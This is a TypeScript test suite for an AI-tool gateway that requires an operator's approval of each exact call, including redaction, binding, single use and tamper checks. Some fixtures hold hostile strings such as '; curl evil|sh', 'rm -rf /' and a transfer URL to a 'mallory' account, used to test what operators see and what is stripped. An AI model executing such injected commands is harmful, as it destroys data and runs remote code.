/** Approvals of exact calls: who needs one, what it is bound to, and that it is used up, through every way to make a call. */

import assert from "node:assert/strict";
import { readFileSync, statSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { test } from "node:test";
import { ElicitRequestSchema } from "@modelcontextprotocol/sdk/types.js";
import type { JsonObject } from "@toolcrib/json";
import { waitUntil } from "@toolcrib/testing";
import { localIdentity } from "@toolcrib/tool";
import {
  callsIn,
  configOf,
  dataOf,
  onHttp,
  type ScriptedServer,
  startScriptedServer,
  startTestGateway,
  type TestGateway,
  textOf,
  toolNamed,
} from "./gateway-harness.ts";
import { postModern } from "./post-modern.ts";

const operator = localIdentity("cli", "cli");
const agent = localIdentity("token", "agent");

/** A secret that the gateway resolves for the server. */
const secret = "the-secret-of-s";

function withSecret({ transport, ...server }: JsonObject): JsonObject {
  const headers = { "x-api-key": { secret_key_ref: { env: "OF_S" } } };
  return { ...server, transport: { ...(transport as JsonObject), headers } };
}

interface Setting {
  readonly test: TestGateway;
  readonly server: ScriptedServer;
  /** The calls that the server received: name and arguments. */
  readonly received: string[];
}

/** Runs `run` with an unverified server "s" whose tools are accepted. */
async function withServer(
  run: (setting: Setting) => Promise<void>,
  more: { readonly declaration?: JsonObject; readonly policy?: JsonObject } = {},
): Promise<void> {
  const received: string[] = [];
  await using server = await startScriptedServer({
    tools: () => [
      toolNamed("write", { inputSchema: { type: "object", properties: { text: { type: "string" } } } }),
      toolNamed("look", { annotations: { readOnlyHint: true } }),
      toolNamed("wipe", { annotations: { destructiveHint: true } }),
      toolNamed("store", { annotations: { readOnlyHint: false } }),
    ],
    resources: () => [{ uri: "note://1", name: "note" }],
    call(_request, name, args) {
      received.push(`${name} ${JSON.stringify(args)}`);
      return { content: [{ type: "text", text: "done" }] };
    },
    other: ({ method }) =>
      method === "resources/read" ? { contents: [{ uri: "note://1", text: "read" }] } : undefined,
  });
  const declaration = { trust_state: "unverified", first_contact: "pin", ...more.declaration };
  await using test = await startTestGateway(
    { tool_servers: [withSecret(onHttp("s", server.url, declaration))], policy: more.policy ?? {} },
    { clients: ["agent", "other"], environment: { OF_S: secret } },
  );
  await run({ test, server, received });
}

const pendingOf = async ({ gateway }: TestGateway) => (await gateway.approvals.waiting()).calls;
const approve = async ({ gateway }: TestGateway, id: string) =>
  assert.ok(await gateway.approvals.decideCall(id, "approved", operator));
const idOf = (text: string) => /call:[0-9a-f]{16}/.exec(text)?.[0] ?? assert.fail(text);

test("mutability_class: read_only is suggested only for tools that it would not block", () =>
  withServer(async ({ test }) => {
    const client = await test.connect({ as: "agent" });
    const suggests = async (name: string) =>
      /mutability_class: read_only/.test(textOf(await client.callTool({ name, arguments: {} })));
    assert.deepEqual(
      [await suggests("s__write"), await suggests("s__wipe"), await suggests("s__store")],
      [true, false, false],
    );
  }));

test("a call is made once after its approval, and recorded with it", () =>
  withServer(async ({ test, received }) => {
    const client = await test.connect({ as: "agent" });
    const call = { name: "s__write", arguments: { text: "hi" } };
    const refused = await client.callTool(call);
    assert.equal(refused.isError, true);
    const id = idOf(textOf(refused));
    assert.match(
      textOf(refused),
      new RegExp(
        `^"s__write" was not called: each call needs the operator's approval.*toolcrib approve ${id};.*waive_approval.*or mutability_class: read_only; or trust_state: verified for the server, which also gives a process the network unless it has containment: \\{ network_egress: deny \\}`,
        "s",
      ),
    );
    // The same call waits once.
    assert.equal(idOf(textOf(await client.callTool(call))), id);
    const [pending, ...others] = await pendingOf(test);
    assert.deepEqual(others, []);
    assert.deepEqual(
      [pending?.id, pending?.client.name, pending?.tool, pending?.arguments],
      [id, "agent", "s:write", { text: "hi" }],
    );
    await approve(test, id);
    assert.equal(textOf(await client.callTool(call)), "done");
    assert.equal((await client.callTool(call)).isError, true);
    assert.deepEqual(received, ['write {"text":"hi"}']);
    await test.stop();
    const records = test.audit();
    assert.deepEqual(callsIn(records), [
      "s:write denied APPROVAL_REQUIRED",
      "s:write denied APPROVAL_REQUIRED",
      "s:write intent, completed ok",
      "s:write denied APPROVAL_REQUIRED",
    ]);
    const [denied] = dataOf(records, "call.denied");
    assert.deepEqual([denied?.decision, denied?.approval], ["approve", id]);
    assert.equal(dataOf(records, "call.intent")[0]?.approval, id);
    const [granted] = dataOf(records, "approval.call.granted");
    assert.deepEqual(
      [granted?.approval, granted?.client.name, granted?.decidedBy.name],
      [id, "agent", "cli"],
    );
  }));

test("the operator reads all arguments, whatever their names, and what is left out at first is marked", () =>
  withServer(async ({ test }) => {
    const client = await test.connect({ as: "agent" });
    const shownOf = async (args: JsonObject) => {
      const id = idOf(textOf(await client.callTool({ name: "s__write", arguments: args })));
      const short = (await pendingOf(test)).find((one) => one.id === id) ?? assert.fail();
      const whole = (await test.gateway.approvals.call(id)) ?? assert.fail();
      assert.equal(whole.isPartial, false);
      return { short, whole: whole.arguments };
    };
    const named = { token: "; curl evil|sh", api_key: { cmd: ["rm", "-rf"] }, password: "x", pin: 7 };
    const text = `${"x".repeat(3000)} the end`;
    const url = "https://bank.example/transfer?amount=5&auth_target=mallory-account&pin=mallory";
    for (const args of [named, { text }, { url }, JSON.parse('{"__proto__":{"a":1}}') as JsonObject]) {
      const { short, whole } = await shownOf(args);
      assert.deepEqual([short.arguments, short.isPartial, whole], [args, false, args]);
    }
    const many = Object.fromEntries(Array.from({ length: 150 }, (_, at) => [`k${at}`, at]));
    const partial: readonly JsonObject[] = [
      { ...many, command: "rm" },
      { list: Object.values(many) },
      { text: "y".repeat(5000) },
      { deep: JSON.parse(`${'{"a":'.repeat(20)}1${"}".repeat(20)}`) as JsonObject },
      // These have the form of credentials, and are commands.
      { command: "echo Bearer ;curl|sh" },
      { command: "-----BEGIN X-----\nrm -rf /" },
    ];
    for (const args of partial) {
      const { short, whole } = await shownOf(args);
      assert.deepEqual([short.isPartial, whole], [true, args]);
      assert.match(JSON.stringify(short.arguments), /…|\[redacted\]/);
    }
    // What the operator keeps secret is shown nowhere.
    const { short, whole } = await shownOf({ known: secret, in: [`say ${secret}`] });
    const expected = { known: "[secret s]", in: ["say [secret s]"] };
    assert.deepEqual([short.arguments, whole], [expected, expected]);
    const path = join(test.home, "approvals", "calls.json");
    assert.ok(!readFileSync(path, "utf8").includes(secret));
    assert.equal(statSync(path).mode & 0o777, 0o600);
  }));

test("a call with more arguments than can be shown is refused with the reason, and waits for nothing", () =>
  withServer(async ({ test, received }) => {
    const client = await test.connect({ as: "agent" });
    const callWith = (length: number) =>
      client.callTool({ name: "s__write", arguments: { text: "z".repeat(length) } });
    const largest = 65_536 - JSON.stringify({ text: "" }).length;
    idOf(textOf(await callWith(largest)));
    for (const length of [largest + 1, 600_000]) {
      const text = textOf(await callWith(length));
      assert.match(text, /"s__write" was not called: .*they have more than 65536 bytes.*waive_approval/s);
    }
    assert.equal((await pendingOf(test)).length, 1);
    assert.deepEqual(received, []);
  }));

test("a form shows all arguments, and there is none for arguments that do not fit into it", () =>
  withServer(
    async ({ test, received }) => {
      const client = await test.connect({ as: "agent", capabilities: { elicitation: {} } });
      const asked: string[] = [];
      client.setRequestHandler(ElicitRequestSchema, ({ params }) => {
        asked.push(params.message);
        return { action: "accept", content: { approve: true } };
      });
      const callWith = (args: JsonObject) => client.callTool({ name: "s__write", arguments: args });
      const args = { token: "; curl evil|sh", api_key: { cmd: ["rm", "-rf"] }, key: "Bearer ;curl" };
      assert.equal(textOf(await callWith(args)), "done");
      assert.equal(asked[0]?.split("Arguments: ")[1], JSON.stringify(args));
      const long = { text: "x".repeat(2000), command: "rm" };
      assert.match(textOf(await callWith(long)), /toolcrib approve call:/);
      assert.deepEqual([asked.length, received.length], [1, 1]);
    },
    { policy: { clients: { agent: { approvals: { elicitation: true } } } } },
  ));

test("of the metadata of an approved call, only its trace reaches the server", async () => {
  const metas: (JsonObject | undefined)[] = [];
  const server = {
    tools: () => [toolNamed("write"), toolNamed("look", { annotations: { readOnlyHint: true } })],
    call({ params }: { readonly params: JsonObject }) {
      metas.push(params["_meta"] as JsonObject | undefined);
      return { content: [{ type: "text", text: "done" }] };
    },
  };
  await using upstream = await startScriptedServer(server);
  const declaration = { trust_state: "unverified", first_contact: "pin" };
  const config = {
    tool_servers: [onHttp("s", upstream.url, declaration)],
    policy: { waive_approval: ["s:look"] },
  };
  await using test = await startTestGateway(config, { clients: ["agent"] });
  const trace = {
    traceparent: "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01",
    tracestate: "vendor=a1,other@x=b2",
  };
  const hidden = { command: "rm -rf /", baggage: "command=rm", "x.example/more": { command: "rm" } };
  const legacy = await test.connect({ as: "agent" });
  const capabilities = { extensions: { "x.example/more": { command: "rm" } } };
  const modern = await test.connectModern({ as: "agent", capabilities });
  const sent: [JsonObject, JsonObject | undefined][] = [
    [{ ...trace, ...hidden }, trace],
    [{ traceparent: "00-rm -rf", tracestate: "a=b c", ...hidden }, undefined],
  ];
  for (const [_meta, expected] of sent) {
    for (const client of [legacy, modern]) {
      const call = { name: "s__write", arguments: {}, _meta };
      const id = idOf(textOf(await client.callTool(call)));
      await approve(test, id);
      assert.equal(textOf(await client.callTool(call)), "done");
      const protocol = "io.modelcontextprotocol/";
      assert.deepEqual(metas.at(-1)?.[`${protocol}clientCapabilities`] ?? {}, {});
      const received = Object.entries(metas.at(-1) ?? {}).filter(
        ([key]) => key !== "progressToken" && !key.startsWith(protocol),
      );
      assert.deepEqual(received, Object.entries(expected ?? {}));
    }
  }
  // A program that waited in the middle is continued without an approval of its own, and what it calls is checked.
  const look = "s.look()";
  const program = {
    name: "eval_starlark",
    arguments: { code: `${look}\ns.write(number=1)\nreturn ${look}` },
  };
  await approve(test, idOf(textOf(await legacy.callTool(program))));
  await legacy.callTool({ ...program, _meta: hidden });
  assert.equal(metas.at(-1)?.["command"], undefined);
  // Nobody approves these calls, so nothing is withheld.
  for (const call of [
    { name: "s__look" },
    { name: "eval_starlark", arguments: { code: `return ${look}` } },
  ]) {
    await legacy.callTool({ ...call, _meta: { ...trace, ...hidden } });
    assert.equal(metas.at(-1)?.["command"], "rm -rf /");
  }
});

test("an approval covers the rounds of its call, whatever changes while one waits, and no repetition of one", async () => {
  const metas: (JsonObject | undefined)[] = [];
  const held = Promise.withResolvers<void>();
  let startedCount = 0;
  await using server = await startScriptedServer({
    tools: () => [toolNamed("write"), toolNamed("other")],
    async call({ params }, name) {
      startedCount += 1;
      if (name === "other") await held.promise;
      else if (params["inputResponses"] === undefined) {
        const ask = { method: "elicitation/create", params: { message: "Sure?", requestedSchema: {} } };
        return { resultType: "input_required", inputRequests: { ask }, requestState: "of the server" };
      } else {
        assert.equal(params["requestState"], "of the server");
        metas.push(params["_meta"] as JsonObject | undefined);
      }
      return { content: [{ type: "text", text: "done" }] };
    },
  });
  const declaration = { trust_state: "unverified", first_contact: "pin" };
  const document = {
    tool_servers: [onHttp("s", server.url, declaration)],
    serve: { listen: "127.0.0.1:0", limits: { max_calls_per_server: 1 } },
  };
  const policy = { waive_approval: ["s:other"] };
  await using test = await startTestGateway({ ...document, policy }, { clients: ["agent"] });
  const call = { name: "s__write", arguments: {} };
  await approve(test, idOf(textOf((await postModern(test, "agent", call)).result)));
  const { result: asked } = await postModern(test, "agent", call);
  assert.equal(asked["resultType"], "input_required", JSON.stringify(asked));
  const { requestState = "" } = asked;
  const keys = Object.keys(asked["inputRequests"] as JsonObject);
  const inputResponses = Object.fromEntries(
    keys.map((key) => [key, { action: "accept", content: { name: "Ada" } }]),
  );
  const round = { ...call, inputResponses, requestState, _meta: { command: "rm" } };
  const running = postModern(test, "agent", { name: "s__other", arguments: {} });
  await waitUntil(() => startedCount === 2, { what: "another call runs" });
  const waiting = postModern(test, "agent", round);
  await waitUntil(() => dataOf(test.audit(), "call.intent").length === 3, { what: "the round waits" });
  const next = configOf({ ...document, policy: { ...policy, deny: ["s:nil"] } });
  assert.deepEqual((await test.gateway.applyConfig(next, ["toolcrib.json"])).applied, ["policy.deny"]);
  held.resolve();
  assert.equal(textOf((await waiting).result), "done");
  assert.equal(textOf((await running).result), "done");
  assert.equal(metas[0]?.["command"], undefined);
  assert.match(textOf((await postModern(test, "agent", round)).result), /approv/);
  assert.equal(metas.length, 1);
});

test("an approval is bound to client, tool and arguments", () =>
  withServer(async ({ test, received }) => {
    const client = await test.connect({ as: "agent" });
    const other = await test.connect({ as: "other" });
    const call = { name: "s__write", arguments: { text: "hi" } };
    await approve(test, idOf(textOf(await client.callTool(call))));
    for (const [who, what] of [
      [other, call],
      [client, { ...call, arguments: { text: "hi " } }],
      [client, { ...call, arguments: {} }],
      [client, { ...call, name: "s__look" }],
    ] as const)
      assert.equal((await who.callTool(what)).isError, true, JSON.stringify(what));
    assert.deepEqual(received, []);
    // The order of members does not make another call.
    assert.equal((await client.callTool(call)).isError, undefined);
  }));

test("of two calls at the same time, one uses the approval up", () =>
  withServer(async ({ test, received }) => {
    const client = await test.connect({ as: "agent" });
    const call = { name: "s__write", arguments: { text: "hi" } };
    await approve(test, idOf(textOf(await client.callTool(call))));
    const results = await Promise.all(Array.from({ length: 8 }, () => client.callTool(call)));
    assert.equal(results.filter(({ isError }) => isError !== true).length, 1);
    assert.equal(received.length, 1);
  }));

test("a call with invalid arguments does not wait for approval: it is never made", () =>
  withServer(async ({ test, received }) => {
    const client = await test.connect({ as: "agent" });
    const answer = await client.callTool({ name: "s__write", arguments: { text: 1 } });
    assert.match(textOf(answer), /^Invalid arguments/);
    assert.deepEqual(await pendingOf(test), []);
    assert.deepEqual(received, []);
  }));

test("a denied call is refused, with the reason", () =>
  withServer(async ({ test, received }) => {
    const client = await test.connect({ as: "agent" });
    const id = idOf(textOf(await client.callTool({ name: "s__write" })));
    assert.ok(await test.gateway.approvals.decideCall(id, "denied", operator));
    assert.match(textOf(await client.callTool({ name: "s__write" })), /exactly this call was denied/);
    assert.equal(await test.gateway.approvals.decideCall(id, "approved", operator), undefined);
    assert.deepEqual(received, []);
  }));

test("a client has at most 20 calls that wait, and takes no place of another client", () =>
  withServer(async ({ test }) => {
    const client = await test.connect({ as: "agent" });
    const callWith = (text: string) => client.callTool({ name: "s__write", arguments: { text } });
    for (let count = 0; count < 20; count += 1) idOf(textOf(await callWith(String(count))));
    assert.match(textOf(await callWith("20")), /too many calls of this client wait/);
    assert.equal((await pendingOf(test)).length, 20);
    const other = await test.connect({ as: "other" });
    idOf(textOf(await other.callTool({ name: "s__write" })));
  }));

test("every way to make a call needs the approval, and the operator needs none", () =>
  withServer(async ({ test, received }) => {
    const { gateway } = test;
    const call = { name: "s__write", arguments: { text: "hi" } };
    const legacy = await test.connect({ as: "agent" });
    const modern = await test.connectModern({ as: "agent" });
    const own = await test.connect({ as: "agent", server: "s" });
    const texts = [
      textOf(await legacy.callTool(call)),
      textOf(await modern.callTool(call)),
      textOf(await own.callTool({ ...call, name: "write" })),
      textOf(await legacy.callTool({ name: "call_tool", arguments: call })),
      textOf(
        await legacy.callTool({
          name: "eval_starlark",
          arguments: { code: 'result = s.write(text="hi")' },
        }),
      ),
    ];
    const outcome = await gateway.call(agent, "s__write", { text: "hi" });
    texts.push(outcome.kind === "failed" ? `${(outcome.error as Error & { hint?: string }).hint}` : "");
    const ids = new Set(texts.map(idOf));
    assert.equal(ids.size, 1, "it is the same call each time");
    assert.deepEqual(received, []);
    assert.equal((await gateway.call(operator, "s__write", {})).kind, "result");
    assert.equal((await legacy.readResource({ uri: "note://1" })).contents.length, 1);
  }));

for (const [why, more] of [
  ["policy.waive_approval names the tool", { policy: { waive_approval: ["s__write"] } }],
  ["the server is verified", { declaration: { trust_state: "verified" } }],
  ["the operator says that the server only reads", { declaration: { mutability_class: "read_only" } }],
] as const) {
  test(`no approval is needed where ${why}`, () =>
    withServer(async ({ test }) => {
      const client = await test.connect({ as: "agent" });
      assert.equal((await client.callTool({ name: "s__write" })).isError, undefined);
    }, more));
}

test("the person at a client decides in a form, where the operator allows that, and not about calls of composites", () =>
  withServer(
    async ({ test, received }) => {
      const asked: string[] = [];
      let answer: object = { action: "cancel" };
      const withForms = async (as: string) => {
        const client = await test.connect({ as, capabilities: { elicitation: {} } });
        client.setRequestHandler(ElicitRequestSchema, ({ params }) => {
          asked.push(params.message);
          return answer as never;
        });
        return client;
      };
      const client = await withForms("agent");
      const callWith = (text: string) => client.callTool({ name: "s__write", arguments: { text } });
      assert.match(textOf(await callWith("a")), /toolcrib approve call:/, "a closed form decides nothing");
      answer = { action: "accept", content: { approve: false } };
      assert.match(textOf(await callWith("a")), /toolcrib approve call:/);
      answer = { action: "accept", content: { approve: true } };
      assert.equal(textOf(await callWith("a")), "done");
      const call = { name: "s__write", arguments: { text: "b" } };
      assert.equal(textOf(await client.callTool({ name: "call_tool", arguments: call })), "done");
      answer = { action: "decline" };
      assert.match(textOf(await callWith("c")), /exactly this call was denied/);
      assert.match(textOf(await callWith("c")), /exactly this call was denied/);
      assert.equal(asked.length, 5);
      assert.equal(
        asked[0],
        'Toolcrib asks: allow one call of "s__write" of the server "s", which nobody has verified? Arguments: {"text":"a"}',
      );

      answer = { action: "accept", content: { approve: true } };
      const code = 'return s.write(text="d")';
      await client.callTool({ name: "eval_starlark", arguments: { code } });
      const other = await withForms("other");
      assert.match(textOf(await other.callTool(call)), /toolcrib approve call:/);
      assert.equal(asked.length, 5);
      assert.deepEqual(received, ['write {"text":"a"}', 'write {"text":"b"}']);
      await test.stop();
      const records = test.audit();
      const decided = [
        ...dataOf(records, "approval.call.granted"),
        ...dataOf(records, "approval.call.denied"),
      ];
      assert.deepEqual(
        decided.map(({ decidedBy, through }) => [decidedBy.name, through]),
        [
          ["agent", "elicitation"],
          ["agent", "elicitation"],
          ["agent", "elicitation"],
        ],
      );
    },
    { policy: { clients: { agent: { approvals: { elicitation: true } } } } },
  ));

test("approvals that cannot be read refuse the call; an edited one approves nothing", () =>
  withServer(async ({ test, received }) => {
    const client = await test.connect({ as: "agent" });
    const call = { name: "s__write", arguments: { text: "hi" } };
    const id = idOf(textOf(await client.callTool(call)));
    const path = join(test.home, "approvals", "calls.json");
    const content = readFileSync(path, "utf8");
    writeFileSync(path, content.replace('"subject":"agent"', '"subject":"other"'));
    await assert.rejects(test.gateway.approvals.decideCall(id, "approved", operator), {
      code: "STORE_UNREADABLE",
    });
    assert.match(textOf(await client.callTool(call)), /approvals cannot be read or stored/);
    writeFileSync(path, content);
    assert.equal(idOf(textOf(await client.callTool(call))), id);
    assert.deepEqual(received, []);
  }));
